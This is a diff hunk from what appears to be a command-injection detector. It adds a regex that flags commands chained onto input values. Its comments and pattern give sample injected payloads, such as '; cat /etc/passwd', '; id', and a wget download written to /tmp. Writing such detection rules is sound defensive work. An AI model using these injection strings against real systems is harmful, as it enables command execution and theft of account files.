@@ -238,6 +238,13 @@ _CODE_EXEC = tuple((marks, re.compile(pattern, re.IGNORECASE | re.MULTILINE)) fo
     # separator: "cd build && ls -la", "ssh into the box; cat /var/log/...")
     ((";", "|", "&", "%0a"), (r"(?:^[ \t]*\S*?[ \t]*(?:[;|]|&&|(?<!\S)&|&(?=\w+&))|[\"'][ \t]*(?:[;|]|&&|&)|%0a)\s*"
                               rf"{_CHAINED}(?:\s*(?:$|;|<|%0a)|[|&]+[ \t\r]*$|\s+(?:#|[-/~$]|[a-z]+://))")),
+    # a command chained onto anything (8.8.8.8 -c 1; id, Bob Smith; cat /etc/passwd): after ;, && or & after a
+    # blank, id, whoami or uname ending the line, a read of /etc/passwd or /etc/shadow, or a download written to a
+    # temporary folder (; wget http://e/x -O /tmp/x); not a transcript's "uname -a; cat /etc/os-release", nor after
+    # | (a table row's "first name | id")
+    ((";", "&"), (rf"(?:;|&&|(?<!\S)&)[ \t]*(?:(?:/usr)?(?:/s?bin/)?(?:id|whoami|uname)[ \t\r]*(?:$|;)"
+                  rf"|{_CHAINED}[ \t]+[^\n;|&]*?/etc/(?:passwd|shadow)\b"
+                  r"|(?:/usr)?(?:/s?bin/)?(?:curl|wget)[ \t]+[^\n;|&]*?-[oO][ \t]*/(?:tmp|var/tmp|dev/shm)/)")),
     # a command on the line after a value (x\nwhoami, 127.0.0.1\ncat /etc/passwd: a URL-decoded %0a): a line of one
     # word (not a code fence or a label: "```bash", "Steps:"), then whoami or uname alone, or one of the commands
     # with an option, a path or a URL (not a bare id, cat or ls: a query's or JSON body's values are joined with
